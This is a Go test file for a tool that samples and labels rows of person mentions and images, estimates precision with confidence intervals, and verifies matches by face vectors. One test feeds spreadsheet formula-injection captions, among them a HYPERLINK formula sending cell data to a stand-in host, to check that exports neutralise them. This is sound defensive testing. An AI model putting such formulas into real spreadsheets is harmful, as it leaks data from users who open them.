package retriever

import (
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// rowsOf writes n rows of a kind for a person.
func rowsOf(t *testing.T, w EvidenceWriter, kind, id string, n int) {
	t.Helper()
	for i := range n {
		require.NoError(t, w.Write(Evidence{Kind: kind, ID: id, Name: id, Row: int64(i)}))
	}
}

// Every row is drawn as often: of 10 rows 3 are drawn 2,000 times, so each is expected 600 times, with a
// standard deviation of sqrt(2000*.3*.7) = 20.5.
func TestSamplerIsFair(t *testing.T) {
	drawn := map[int64]int{}
	for seed := range uint64(2000) {
		s := NewSampler(3, seed)
		rowsOf(t, s, "mention", "ann", 10)
		sample := s.Sample()
		require.Len(t, sample, 3)
		for i, e := range sample {
			drawn[e.Row]++
			require.True(t, i == 0 || sample[i-1].Row < e.Row)
		}
	}
	for row := range int64(10) {
		require.InDelta(t, 600, drawn[row], 90, row)
	}
	again := NewSampler(3, 1)
	rowsOf(t, again, "mention", "ann", 10)
	same := NewSampler(3, 1)
	rowsOf(t, same, "mention", "ann", 10)
	require.Equal(t, again.Sample(), same.Sample())
}

// 8 of 10 rows of 100 show Ann: .8, by Clopper-Pearson .4439 to .9748 (R's binom.test(8, 10)). All two
// of Bob's were looked at.
func TestLabelsMakeTheEstimate(t *testing.T) {
	text := "kind,id,row,shows\n"
	for i := range 10 {
		text += fmt.Sprintf("mention,ann,%d,%s\n", 7*i, map[bool]string{true: "yes", false: "no"}[i < 8])
	}
	labels, err := ReadLabels(strings.NewReader(text + "mention,bob,0,yes\nmention,bob,1,no\nimage,bob,0,no\n"))
	require.NoError(t, err)
	rowsOf(t, labels, "mention", "ann", 100)
	rowsOf(t, labels, "mention", "bob", 2)
	rowsOf(t, labels, "image", "bob", 40)
	verified, err := labels.Verified()
	require.NoError(t, err)
	require.Len(t, verified, 3)
	counts := []Count{{ID: "ann", Mentions: ptr(int64(100))}, {ID: "bob", Mentions: ptr(int64(2)), Images: ptr(int64(40))}, {ID: "cat", Mentions: ptr(int64(0))}}
	for i := range counts {
		counts[i].setExact(counts[i].Mentions)
	}
	require.NoError(t, ApplyVerified(counts, verified))
	require.InDeltaSlice(t, []float64{80, 44.39, 97.48}, []float64{*counts[0].Estimate, *counts[0].Low, *counts[0].High}, 0.005)
	require.False(t, counts[0].Exact)
	require.Equal(t, []float64{1, 1, 1}, []float64{*counts[1].Estimate, *counts[1].Low, *counts[1].High}, "captions make the estimate")
	require.True(t, counts[1].Exact)
	require.Equal(t, 0.0, *counts[2].Estimate)
	require.ErrorContains(t, ApplyVerified(counts[:1], verified), "bob, who was not counted")

	labels, err = ReadLabels(strings.NewReader("kind,id,row,shows\nmention,ann,7,yes\n"))
	require.NoError(t, err)
	rowsOf(t, labels, "mention", "ann", 7)
	_, err = labels.Verified()
	require.ErrorContains(t, err, "line 2: row 7 was not counted for ann by kind mention")
}

// A sample as a spreadsheet gives it back.
func TestLabelsOfASpreadsheet(t *testing.T) {
	for _, text := range []string{
		"\ufeffkind,id,name,row,shows\r\nmention,ann,Ann Lee,3,YES\r\nmention,ann,Ann Lee,4,No \r\n",
		"\ufeffkind;id;name;row;shows\r\nmention;ann;Ann Lee;3;yes\r\nmention;ann;\"Lee; Ann\";4;no\r\n",
	} {
		labels, err := ReadLabels(strings.NewReader(text))
		require.NoError(t, err)
		rowsOf(t, labels, "mention", "ann", 5)
		got, err := labels.Verified()
		require.NoError(t, err)
		require.Equal(t, []int64{2, 1}, []int64{got[0].Sample, got[0].Confirmed})
	}
}

// A caption that a spreadsheet would carry out is text in a sample.
func TestSamplesHaveNoFormulas(t *testing.T) {
	s := NewSampler(9, 0)
	for row, caption := range []string{`=HYPERLINK("http://x.example/?"&A1)`, "+1", "-1", "@SUM(A1)", "\t=1", "Ann = Lee"} {
		require.NoError(t, s.Write(Evidence{Kind: "mention", ID: "ann", Name: "Ann Lee", Row: int64(row), Caption: caption}))
	}
	var b strings.Builder
	require.NoError(t, s.WriteSample(&b))
	lines, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	require.NoError(t, err)
	require.Len(t, lines, 7)
	for _, cells := range lines[1:] {
		require.Contains(t, "'A", cells[6][:1], cells)
	}
}

func TestReadLabelsRefuses(t *testing.T) {
	head := "kind,id,row,shows\n"
	for text, want := range map[string]string{
		"":                                    "no header line",
		"kind,id,row\nmention,ann,1\n":        "line 2: shows is no column",
		head + "mention,ann,1,\n":             `line 2: shows is ""; write yes`,
		head + "mention,ann,,yes\n":           "line 2: row is empty",
		head + "mention,ann,x,yes\n":          `line 2: row is "x"`,
		head + "rumour,ann,1,yes\n":           `line 2: kind is "rumour"`,
		head + "face,ann,1,no\nface,ann,1,no": "line 3: row 1 of ann is there twice",
	} {
		_, err := ReadLabels(strings.NewReader(text))
		require.ErrorContains(t, err, want)
	}
}

// Faces confirm 5 of 5 rows: between .0125^(1/5) = .4163 and 1. None of 9 photos of others is taken for
// Ann: at most 1 - .0125^(1/9) = .3855. So at least (.4163 - .3855) / (1 - .3855) = .0501 show her.
// They confirm none of 5: at most .5837; found are 3 of 3 photos, at least .0125^(1/3) = .2321: up to all.
func TestFacesVerify(t *testing.T) {
	trial := FaceTrial{Photos: 3, Found: 3, Rows: 9}
	v := newVerified("mention", "ann", 10, 5, 5)
	v.byFaces(trial)
	require.InDeltaSlice(t, []float64{1, 0.0501, 1}, []float64{v.Precision, v.Low, v.High}, 5e-4)
	v = newVerified("mention", "ann", 5, 5, 0)
	v.byFaces(trial)
	require.Equal(t, []float64{0, 0, 1}, []float64{v.Precision, v.Low, v.High})
	// 100 of 100 photos found: at least .0125^(1/100) = .9571; none of 5: at most .5837 / .9571 = .6099.
	v.byFaces(FaceTrial{Photos: 100, Found: 100, Rows: 9})
	require.InDelta(t, 0.6099, v.High, 5e-4)

	// Ann's two photos are alike, Bob's face is not: one pair each way.
	refs := []References{{Vectors: [][]float32{{1, 0}, {0.8, 0.6}}}, {Vectors: [][]float32{{0, 1}}}}
	s := NewSampler(9, 0)
	rowsOf(t, s, "mention", "ann", 2)
	rowsOf(t, s, "mention", "bob", 1)
	got := s.ByFaces(twoPersons(), refs, 0.7, []*bool{ptr(true), nil, ptr(false)})
	require.Len(t, got, 2)
	require.Equal(t, []int64{2, 1, 1}, []int64{got[0].Rows, got[0].Sample, got[0].Confirmed}, "a row without an image is left out of the sample")
	require.Equal(t, []int64{1, 1, 0}, []int64{got[1].Rows, got[1].Sample, got[1].Confirmed})
	require.Equal(t, []FaceTrial{{Photos: 2, Found: 2, Rows: 1}, {Photos: 1, Rows: 2}}, photoTrials(refs, 0.7))
}
